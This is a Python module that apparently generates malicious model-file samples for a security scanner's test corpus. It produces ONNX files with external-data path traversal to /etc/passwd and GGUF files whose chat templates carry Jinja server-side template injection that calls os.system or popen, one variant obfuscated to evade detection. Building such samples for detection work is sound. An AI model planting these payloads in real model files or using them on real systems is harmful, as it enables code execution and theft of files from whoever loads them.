"""Malicious ONNX and GGUF files.

ONNX tensors can point at external files (path traversal), and GGUF chat templates are Jinja
programs that unsandboxed renderers execute (server-side template injection).
"""

from __future__ import annotations

import json
import tempfile
from pathlib import Path

from ._registry import Canary, sample

# -- ONNX ------------------------------------------------------------------------------------------


def _onnx_external(location: str) -> bytes:
    from onnx import TensorProto, helper

    tensor = TensorProto(name="weight", data_type=TensorProto.FLOAT, dims=[4])
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "16")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    node = helper.make_node("Add", ["x", "weight"], ["y"])
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])],
        [tensor],
    )
    model = helper.make_model(graph, producer_name="pytorch", opset_imports=[helper.make_opsetid("", 17)])
    return bytes(model.SerializeToString())


_ONNX_NOTE = (
    " No code runs: onnx.load / ONNX Runtime would read that file into the weights (information "
    "disclosure), so there is no canary; onnx >= 1.16 refuses such paths. Static-only sample."
)


@sample(
    "onnx_external_absolute",
    technique="onnx:external-data-traversal",
    container="onnx",
    filename="model_abs.onnx",
    loader="none",
    requires=("onnx",),
    advisory="CVE-2022-25882",
    description="An initializer stored as external data at the absolute path /etc/passwd." + _ONNX_NOTE,
)
def _onnx_abs(c: Canary) -> bytes:
    return _onnx_external("/etc/passwd")


@sample(
    "onnx_external_parent",
    technique="onnx:external-data-traversal",
    container="onnx",
    filename="model_parent.onnx",
    loader="none",
    requires=("onnx",),
    advisory="CVE-2022-25882",
    description="External data location ../../../../etc/passwd, outside the model directory." + _ONNX_NOTE,
)
def _onnx_parent(c: Canary) -> bytes:
    return _onnx_external("../../../../etc/passwd")


@sample(
    "onnx_external_nested_parent",
    technique="onnx:external-data-traversal",
    container="onnx",
    filename="model_nested.onnx",
    loader="none",
    requires=("onnx",),
    advisory="CVE-2024-27318",
    description="External data location weights/../../../../etc/passwd: a leading directory defeats the "
    "naive '../'-prefix check that onnx 1.15 shipped." + _ONNX_NOTE,
)
def _onnx_nested(c: Canary) -> bytes:
    return _onnx_external("weights/../../../../etc/passwd")


# -- GGUF ------------------------------------------------------------------------------------------

CHAT_TEMPLATE = (
    "{% for message in messages %}"
    "{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n' }}"
    "{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
"""A ChatML template like the ones real GGUF files ship (also used by the benign GGUF artifact)."""


def gguf_file(template: str, name: str = "tiny-chat") -> bytes:
    """Write a tiny llama-architecture GGUF with ``template`` as ``tokenizer.chat_template``."""
    import gguf
    import numpy as np

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "model.gguf"
        writer = gguf.GGUFWriter(str(path), "llama")
        writer.add_name(name)
        writer.add_context_length(128)
        writer.add_embedding_length(8)
        writer.add_block_count(1)
        writer.add_chat_template(template)
        writer.add_tensor("token_embd.weight", np.zeros((4, 8), dtype=np.float32))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        return path.read_bytes()


_GGUF_NOTE = (
    " Live when the template is rendered by an unsandboxed jinja2.Environment, as llama-cpp-python "
    "0.2.30-0.2.71 did on load; the liveness test renders it that way."
)


@sample(
    "gguf_ssti_cycler_globals",
    technique="gguf:jinja-ssti",
    container="gguf",
    filename="tinyllama-q4.gguf",
    loader="jinja",
    requires=("gguf", "jinja2"),
    advisory="GHSA-56xg-wfcc-g829",
    description="ChatML template with {{ cycler.__init__.__globals__.os.system(cmd) }} appended (the "
    "'Llama Drama' shape)." + _GGUF_NOTE,
)
def _gguf_cycler(c: Canary) -> bytes:
    payload = "{{ cycler.__init__.__globals__.os.system(" + json.dumps(c.sh) + ") }}"
    return gguf_file(payload + CHAT_TEMPLATE)


@sample(
    "gguf_ssti_obfuscated",
    technique="gguf:jinja-ssti",
    container="gguf",
    filename="mistral-instruct-q8.gguf",
    loader="jinja",
    requires=("gguf", "jinja2"),
    advisory="GHSA-56xg-wfcc-g829",
    description="SSTI hidden inside the message loop with string concatenation: namespace.__init__."
    "__globals__['o'~'s']['po'~'pen'](cmd), so neither 'os' nor 'popen' appears literally." + _GGUF_NOTE,
)
def _gguf_obf(c: Canary) -> bytes:
    payload = (
        "{% set g = namespace.__init__.__globals__ %}"
        "{% if messages %}{% set _ = g['o'~'s']['po'~'pen'](" + json.dumps(c.sh) + ").read() %}{% endif %}"
    )
    return gguf_file(payload + CHAT_TEMPLATE)
